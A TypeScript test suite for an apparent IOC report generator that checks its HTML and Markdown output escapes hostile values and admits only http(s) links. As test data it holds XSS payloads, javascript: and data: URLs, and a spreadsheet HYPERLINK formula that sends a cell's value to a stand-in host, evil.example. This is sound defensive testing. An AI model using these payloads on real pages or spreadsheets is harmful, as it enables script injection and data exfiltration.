import { expect } from 'chai';
import { createHash } from 'node:crypto';
import { REPORT_CSS, REPORT_JS } from '../../scripts/node/report/html-assets';
import { jsonForScript } from '../../scripts/node/report/html';
import { formatReports, safeHttpUrl, escapeHtml } from '../../scripts/node/report/index';
import { mdBlockText, mdCode, mdLink, mdText } from '../../scripts/node/report/markdown';
import { allFixtures, fixture } from './helpers';

/** Remove CommonMark code spans (a backtick run closes only at a run of the same length). */
function stripCodeSpans(line: string): string {
  let out = '';
  let i = 0;
  while (i < line.length) {
    if (line[i] === '\\') {
      out += line.slice(i, i + 2);
      i += 2;
      continue;
    }
    if (line[i] !== '`') {
      out += line[i++];
      continue;
    }
    let n = 0;
    while (line[i + n] === '`') n++;
    const fence = '`'.repeat(n);
    let j = i + n;
    let close = -1;
    while ((j = line.indexOf(fence, j)) >= 0) {
      if (line[j + n] !== '`' && line[j - 1] !== '`') {
        close = j;
        break;
      }
      while (line[j] === '`') j++;
    }
    if (close < 0) throw new Error('unclosed code span in: ' + line);
    out += 'CODE';
    i = close + n;
  }
  return out;
}

describe('report escaping', function () {
  describe('links', function () {
    it('safeHttpUrl keeps http(s) only', function () {
      expect(safeHttpUrl('https://www.virustotal.com/gui/ip-address/1.2.3.4')).to.equal('https://www.virustotal.com/gui/ip-address/1.2.3.4');
      expect(safeHttpUrl('HTTP://Example.com/a b')).to.equal('http://example.com/a%20b');
      expect(safeHttpUrl('javascript:alert(1)')).to.equal(null);
      expect(safeHttpUrl(' javascript:alert(1)')).to.equal(null);
      expect(safeHttpUrl('JaVaScRiPt:alert(1)')).to.equal(null);
      expect(safeHttpUrl('java\tscript:alert(1)')).to.equal(null);
      expect(safeHttpUrl('data:text/html,<script>x</script>')).to.equal(null);
      expect(safeHttpUrl('//evil.example/')).to.equal(null);
      expect(safeHttpUrl('/relative')).to.equal(null);
      expect(safeHttpUrl('')).to.equal(null);
      expect(safeHttpUrl(undefined)).to.equal(null);
      expect(safeHttpUrl(42)).to.equal(null);
    });
  });

  describe('html', function () {
    const html = formatReports('html', allFixtures(), { generatedAt: '2024-05-14T09:30:00Z', title: '<b>title</b>' });

    it('escapeHtml covers text and both attribute quotes', function () {
      expect(escapeHtml('<a href="x" title=\'y\'>&</a>')).to.equal('&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;&lt;/a&gt;');
      expect(escapeHtml(null)).to.equal('');
    });

    it('contains only its own two script elements and no injected tags or handlers', function () {
      expect(html.match(/<script/gi)).to.have.length(2);
      expect(html).to.contain('<script type="application/json" id="ioc-data">');
      expect(html).to.not.match(/<img/i);
      expect(html).to.not.match(/<[a-z][^>]*\son[a-z]+\s*=/i);
      expect(html).to.not.match(/href\s*=\s*["']?\s*(javascript|data):/i);
      expect(html).to.not.contain('<b>title</b>');
      expect(html).to.contain('<title>&lt;b&gt;title&lt;/b&gt;</title>');
    });

    it('escapes the attacker-controlled source and note in the table', function () {
      expect(html).to.contain('=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;click&quot;)&lt;script&gt;window.__pwned=1&lt;/script&gt;');
      expect(html).to.contain('http://evil.example/&quot;&gt;&lt;img src=x onerror=&quot;window.__pwned=2&quot;&gt;');
    });

    it('embeds detail data that cannot close its script element, with values intact and only http(s) links', function () {
      const m = html.match(/<script type="application\/json" id="ioc-data">([\s\S]*?)<\/script>/)!;
      expect(m[1]).to.not.match(/[<>]/);
      const data = JSON.parse(m[1]);
      expect(data).to.have.length(5);
      const inj = data[4];
      expect(inj.source).to.equal(fixture('injection').source);
      expect(inj.indicators[0].value).to.equal('http://evil.example/"><img src=x onerror="window.__pwned=2">');
      const links: string[] = data.flatMap((a: any) => a.indicators.flatMap((i: any) => i.rows.map((r: any) => r.link).filter(Boolean)));
      expect(links.length).to.be.greaterThan(5);
      for (const l of links) expect(l).to.match(/^https?:\/\//);
      const vt = inj.indicators[0].rows.find((r: any) => r.provider === 'virustotal');
      expect(vt.link).to.equal(undefined); // javascript: dropped
      const tf = inj.indicators[0].rows.find((r: any) => r.provider === 'threatfox');
      expect(tf.link).to.equal(undefined); // data: dropped
      const uh = inj.indicators[0].rows.find((r: any) => r.provider === 'urlhaus');
      expect(uh.link).to.equal('https://urlhaus.abuse.ch/url/1/?q=%22%3E%3Cscript%3Ewindow.__pwned=7%3C/script%3E');
    });

    it('jsonForScript escapes <, >, & and line separators', function () {
      const s = jsonForScript({ a: '</script><!--&\u2028\u2029' });
      expect(s).to.equal('{"a":"\\u003c/script\\u003e\\u003c!--\\u0026\\u2028\\u2029"}');
      expect(JSON.parse(s)).to.deep.equal({ a: '</script><!--&\u2028\u2029' });
    });

    it('is self-contained: no external resources, and a CSP that admits only its own style and script', function () {
      expect(html).to.not.match(/<link\b/i);
      expect(html).to.not.match(/<[a-z][^>]*\ssrc=/i);
      expect(html).to.not.match(/url\(/i);
      const b64 = (s: string) => createHash('sha256').update(s, 'utf8').digest('base64');
      const csp = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)">/)![1].replace(/&#39;/g, "'");
      expect(csp).to.contain("default-src 'none'");
      expect(csp).to.contain("style-src 'sha256-" + b64(REPORT_CSS) + "'");
      expect(csp).to.contain("script-src 'sha256-" + b64(REPORT_JS) + "'");
      expect(html).to.contain('<style>' + REPORT_CSS + '</style>');
      expect(html).to.contain('<script>' + REPORT_JS + '</script>');
      expect(REPORT_JS).to.not.contain('innerHTML');
      expect(REPORT_JS).to.not.contain('${');
    });

    it('renders with zero alerts', function () {
      const empty = formatReports('html', [], { generatedAt: 'x' });
      expect(empty).to.contain('No alerts in this report.');
      expect(empty).to.contain('id="ioc-data">[]</script>');
    });
  });

  describe('markdown', function () {
    const md = formatReports('md', allFixtures(), { generatedAt: 'x' });

    it('code spans survive backticks, pipes and spaces', function () {
      expect(mdCode('a`b')).to.equal('``a`b``');
      expect(mdCode('`x`')).to.equal('`` `x` ``');
      expect(mdCode('a|b')).to.equal('`a\\|b`');
      expect(mdCode('a\nb')).to.equal('`a b`');
      expect(mdCode('')).to.equal('');
    });

    it('text escapes markup and block starts', function () {
      expect(mdText('<script>*x*_[y](javascript:z)|`')).to.equal('\\<script\\>\\*x\\*\\_\\[y\\](javascript:z)\\|\\`');
      expect(mdBlockText('# heading')).to.equal('\\# heading');
      expect(mdBlockText('- item')).to.equal('\\- item');
      expect(mdBlockText('12. item')).to.equal('12\\. item');
    });

    it('links are http(s) only, with destinations that cannot be broken out of', function () {
      expect(mdLink('open', 'javascript:alert(1)')).to.equal('');
      expect(mdLink('open', 'https://x.example/a(b)|c>d')).to.equal('[open](<https://x.example/a%28b%29%7Cc%3Ed>)');
    });

    it('leaves no live markup from attacker values in the document', function () {
      const section = md.split(/\n## /)[5];
      expect(section).to.contain('Source: `=HYPERLINK("http://evil.example/?x="&A1,"click")<script>window.__pwned=1</script>`');
      for (const line of md.split('\n')) {
        const rest = stripCodeSpans(line).replace(/\]\(<https?:\/\/[^<>\s]*>\)/g, '](LINK)');
        expect(rest, line).to.not.match(/(^|[^\\])[<`]/);
        expect(rest, line).to.not.match(/(^|[^\\])\[(?!open\]\(LINK\))/);
        expect(rest, line).to.not.match(/(^|[^\\])\]\(<?\s*(javascript|data):/i);
      }
    });
  });
});
